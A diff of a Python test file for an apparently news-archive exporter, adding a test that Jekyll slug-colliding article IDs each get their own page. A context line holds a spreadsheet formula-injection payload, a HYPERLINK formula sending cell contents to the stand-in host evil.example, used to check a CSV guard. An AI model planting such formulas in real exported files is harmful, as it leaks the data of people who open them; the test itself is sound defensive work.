@@ -192,3 +192,25 @@ def test_csv_in_libreoffice_calc(tmp_path: Path) -> None:
         assert row[name][1] == "'" + CSV_ROW[name], name
     unguarded = xlsx_cells(tmp_path / "xlsx" / "unguarded.xlsx")
     assert unguarded["B2"][0] == 'HYPERLINK("http://evil.example/?q="&A1,"点我看南通新闻")'   # what the guard prevents
+
+
+def test_ids_jekyll_slugs_alike_get_a_page_each(tmp_path: Path) -> None:
+    """'a-b', 'a--b' and '-a-b' have their own files but Jekyll's slug builds them at one URL (.../a-b.html):
+    each gets a page of its own, and exporting again gives the same files."""
+    exe = needs_jekyll()
+    database = open_db(tmp_path / "news.db")
+    ids = ["a-b", "a--b", "-a-b"]
+    for i in ids:
+        upsert_article(database, {**BASE, "id": i, "title": f"标题 {i}"})
+    database.close()
+    out = tmp_path / "site"
+    for _ in range(2):
+        exported = cli("export", "--format", "jekyll", "--out", str(out), "--db", str(tmp_path / "news.db"))
+        assert exported.returncode == 0, exported.stderr
+    assert len(list((out / "_posts").iterdir())) == 3
+    result = subprocess.run([exe, "build", "--source", str(out), "--destination", str(tmp_path / "_site")],
+                            capture_output=True, text=True, timeout=120, check=False)
+    assert result.returncode == 0 and "Conflict" not in result.stdout + result.stderr, result.stdout + result.stderr
+    pages = sorted((tmp_path / "_site" / "nantongribao" / "2021" / "12" / "31").glob("*.html"))
+    titles = sorted(Selector(text=p.read_text(encoding="utf-8")).xpath("string(//section/h1)").get() for p in pages)
+    assert titles == sorted(f"标题 {i}" for i in ids)
